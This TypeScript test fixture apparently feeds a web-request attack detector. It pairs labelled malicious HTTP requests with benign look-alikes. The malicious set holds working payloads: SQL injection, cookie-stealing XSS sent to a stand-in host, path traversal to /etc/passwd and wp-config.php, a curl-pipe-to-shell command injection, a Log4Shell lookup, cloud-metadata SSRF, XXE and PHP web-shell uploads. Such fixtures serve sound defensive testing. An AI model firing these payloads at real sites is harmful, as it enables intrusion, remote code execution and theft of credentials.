import type { Named } from './index.ts';

const get = (target: string) =>
  `GET ${target} HTTP/1.1\nHost: shop.example\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\n\n`;
const post = (body: string, type = 'application/x-www-form-urlencoded') =>
  `POST /contact HTTP/1.1\nHost: shop.example\nContent-Type: ${type}\n\n${body}`;

const manage = (body: string) =>
  `POST /admin/pages/5 HTTP/1.1\nHost: shop.example\nContent-Type: application/x-www-form-urlencoded\n\n_token=a&${body}`;

export const MALICIOUS_REQUESTS: Named = {
  'SQL: union': get("/?id=-1'%20UNION%20ALL%20SELECT%201,user_pass,3%20FROM%20wp_users--%20-"),
  'SQL: union behind comments': get('/?id=1/**/uNiOn/*x*/(select(1),2,3)'),
  'SQL: always true': get("/login?user=admin'%20or%20'1'='1"),
  'SQL: always true without quotes': get('/?id=7%20or%201=1'),
  'SQL: commented out': post("user=admin'--%20&password=x"),
  'SQL: a second statement': get('/?id=1;drop%20table%20wp_posts;--'),
  'SQL: waiting': get("/?id=1'%20and%20(select%201%20from(select(sleep(5)))a)--%20"),
  'SQL: encoded twice': get('/?id=1%2527%2520or%25201%253d1--'),
  'XSS: script': get('/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
  'XSS: handler': get('/?s=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E'),
  'XSS: attribute': get('/?s=%22%20autofocus%20onfocus=%22alert(1)'),
  'XSS: references': '<a href="&#106;avascript:&#97;lert(1)">x</a>',
  'XSS: inside of a script': "';alert(String.fromCharCode(88))//",
  traversal: get('/download?file=../../../../etc/passwd'),
  'traversal in overlong encoding': get('/download?file=..%c0%af..%c0%af..%c0%afetc/shadow'),
  configuration: get('/download?file=../wp-config.php'),
  'a wrapper': get('/?page=php://filter/convert.base64-encode/resource=index'),
  'command: separated': get('/ping?host=127.0.0.1;cat%20/etc/passwd'),
  'command: substituted': post('name=$(curl http://198.51.100.7/x.sh|sh)'),
  'command: without spaces': 'x|{cat,/etc/passwd}',
  'command: quoted apart': ';c\'a\'t /e"t"c/passwd',
  Shellshock: 'GET / HTTP/1.1\nUser-Agent: () { :;}; /bin/bash -c "id"\n\n',
  'template: arithmetic': get('/?name=%7B%7B7*7%7D%7D'),
  'template: reaches for the host': "{{''.__class__.__mro__[1].__subclasses__()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  Log4Shell: 'GET / HTTP/1.1\nUser-Agent: ${${lower:j}ndi:ldap://198.51.100.7/a}\n\n',
  metadata: get('/fetch?url=http://169.254.169.254/latest/meta-data/'),
  'metadata as a number': get('/fetch?url=http://2852039166/latest/meta-data/'),
  gopher: get('/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL'),
  'a PHP object': post('data=O:8:"Evil_Obj":1:{s:3:"cmd";s:2:"id";}'),
  'an XML entity': post(
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    'application/xml',
  ),
  'an LDAP filter': get('/?user=*)(uid=*))(|(uid=*'),
  'a database operator': post('{"user":"admin","password":{"$ne":null}}', 'application/json'),
  'a header behind a line break': get('/?next=%0d%0aSet-Cookie:%20session=1'),
  'base64 of a script element': get('/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  'an upload named as a script':
    'POST /u HTTP/1.1\nContent-Type: multipart/form-data; boundary=xx\n\n--xx\nContent-Disposition: form-data; name="f"; filename="a.php.jpg"\n\nGIF89a<?php system($_GET[1]);\n--xx--',
  'SQL: behind a sentence': post(
    "comment=please deliver it to the back door', (select user_pass from wp_users limit 1)) -- -",
  ),
  'NoSQL: a comparison with nothing': get('/login?name[$gt]=&password[$gt]='),
  'PHP in a picture':
    'POST /upload HTTP/1.1\nHost: shop.example\nContent-Type: multipart/form-data; boundary=b7\n\n--b7\n' +
    'Content-Disposition: form-data; name="a"; filename="a.gif"\nContent-Type: image/gif\n\nGIF89a\u0001\u0002<?php system($_GET[0]);\n--b7--',
  'SQL: in a document in a field': post('filter={"sort":"name","id":"1\' or \'1\'=\'1"}'),
  'SQL: behind a space in the target': get('/?id=1 union select 1,2,user() from mysql.user--'),
  'SQL: in an element': post("<?xml version=\"1.0\"?><a><id>1' or<!-- --> '1'='1</id></a>", 'text/xml'),
  'XSS: in a document in a cookie':
    'GET / HTTP/1.1\nCookie: a=%7B%22n%22%3A%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%7D\n\n',
  'XSS: in an element': post(
    '<?xml version="1.0"?><a><t><![CDATA[<img src=x onerror=alert(1)>]]></t></a>',
    'text/xml',
  ),
  'XSS: in the name of a condition': get('/?filters[<script>alert(1)</script>]=1'),
  'XSS: saved by an administrator': manage(
    "body=<p>Hi</p><script>new Image().src='//a.example/'%2bdocument.cookie</script>",
  ),
  'XSS: a handler that seems ordinary': post(
    'text=<b onclick="init();location=\'//a.example/\'%2bdocument.cookie">x</b>',
  ),
  'command: sent by an administrator': manage('host=127.0.0.1;cat /etc/passwd'),
  'command: beside a description of containers': post(
    '{"apiVersion":"v1","kind":"Pod","host":"127.0.0.1;cat /etc/passwd"}',
    'application/json',
  ),
  'SQL: in a form that looks like a log': post("timestamp=1&level=a&message=1' union select 1,2,3-- "),
  'SQL: to a place for logs': 'POST /_bulk HTTP/1.1\nHost: a.example\n\nid=1 union select 1,2,3--',
  'NoSQL: a password among conditions': post('{"filters":{"password":{"$gt":""}}}', 'application/json'),
  'two ends of one message':
    'POST / HTTP/1.1\nHost: a.example\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\n',
};

export const CLEAN_REQUESTS: Named = {
  'a document in a field': post(
    'cart={"items":[{"name":"O\'Neill (2-pack)","options":"or"}],"note":"it\'s"}',
  ),
  'a document in a text of a document': post(
    '{"posts":[{"lexical":"{\\"text\\":\\"it\'s or\\"}"}]}',
    'application/json',
  ),
  'a space in the target': get("/people?query=name=='Anna*';city=in=(Paris,'New York')"),
  'conditions of a list': get('/api/products?filters[$and][0][name][$containsi]=lamp'),
  'conditions of a search': post('{"filters":{"$and":[{"price":{"$gte":10}}]}}', 'application/json'),
  'elements with texts': post(
    '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>' +
      "<filter>Status = 'Open' AND Total &gt; 100</filter><note><![CDATA[<b>Tom & Jerry's</b>]]></note></s:Body></s:Envelope>",
    'text/xml',
  ),
  'a table': post("date;time;name\n2025-11-01;10:00;Smith & Sons; who's\n", 'text/csv'),
  'a calendar': post('BEGIN:VCALENDAR\nSUMMARY:Tea\nLOCATION:Garden\nEND:VCALENDAR\n', 'text/calendar'),
  'an ordinary handler': post('body=<p>Hi</p><a href="/a" onclick="return track(this)">a</a>'),
  'a page that an administrator saves': manage(
    'body=<p>Hi</p><script>window.dataLayer=window.dataLayer||[];</script><a href="javascript:void(0)">a</a>',
  ),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a placeholder of a mail
  'a placeholder of a mail': post('body=Dear {{customer.name}}, your order ships on ${date}.'),
  'lines of a log': post(
    '{"@timestamp":"2025-11-01T10:00:00Z","level":"warn","message":"blocked /?id=1\' union select 1,2-- -"}',
    'application/json',
  ),
  'a statement for an interface that takes one': get(
    "/services/data/v60.0/query?q=SELECT+Id+FROM+Account+WHERE+Name='x'",
  ),
  'containers with commands': post(
    '{"apiVersion":"v1","kind":"Pod","spec":{"containers":[{"command":["/bin/sh","-c","sleep 2; exec /app/run"]}]}}',
    'application/json',
  ),
  'a picture in a text format':
    'POST /upload HTTP/1.1\nHost: shop.example\nContent-Type: multipart/form-data; boundary=b7\n\n--b7\n' +
    'Content-Disposition: form-data; name="logo"; filename="logo.svg"\nContent-Type: image/svg+xml\n\n' +
    '<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:#0a0}</style><path class="a" d="M2 2l7 1"/></svg>\n--b7--',
  'a question about SQL': post(
    'comment=Why does `DELETE FROM users WHERE id = 1 OR 1=1` remove all rows? I expected only one of them to go.',
  ),
  'code with the name of its language': post(
    '{"lang":"html","code":"<script>document.querySelector(\'a\').onclick = () => alert(1)</script>"}',
    'application/json',
  ),
  'bounds of a search': get('/shoes?price[$gte]=10&price[$lte]=50'),
  'a search': get('/?s=union+jack+mugs+and+spoons&orderby=price'),
  'an apostrophe': post("name=Conan+O'Brien&message=It's+a+dog's+life,+isn't+it?"),
  'prose with SQL words': post(
    'message=Please select one of the options from the list and update my order, or drop me a line.',
  ),
  'prose with commands': post(
    'message=I ran the cat food test; the dog ate it. Find the id on the back, or echo it to sales.',
  ),
  'a telephone number': post('phone=%2B44+20+7946+0018&time=5-7pm'),
  'an address': post('street=Plaza+Mayor+1,+2%C2%BA+B&city=Valencina+de+la+Concepci%C3%B3n'),
  JSON: post('{"title":"Hello","tags":["a","b"],"price":12.5,"note":"50% off & more"}', 'application/json'),
  'a block of the editor': post(
    '<!-- wp:paragraph --><p>Hello <strong>world</strong> &amp; friends</p><!-- /wp:paragraph -->',
    'text/plain',
  ),
  'a link to another site': get('/?url=https%3A%2F%2Fwww.example.org%2Farticle%3Fid%3D5'),
  'a token': get('/reset?token=eyJhbGciOiJIUzI1NiJ9.eyJpZCI6MX0.c2lnbmF0dXJl'),
  'a cookie':
    'GET / HTTP/1.1\nHost: shop.example\nCookie: wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; cart=a%3A1\nReferer: https://www.google.com/search?q=shop\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36\n\n',
  'a static file': get('/wp-includes/js/jquery/jquery.min.js?ver=3.7.1'),
  'arithmetic in words': post('message=Is 2+2=4? And 1 or 2 more are fine.'),
};
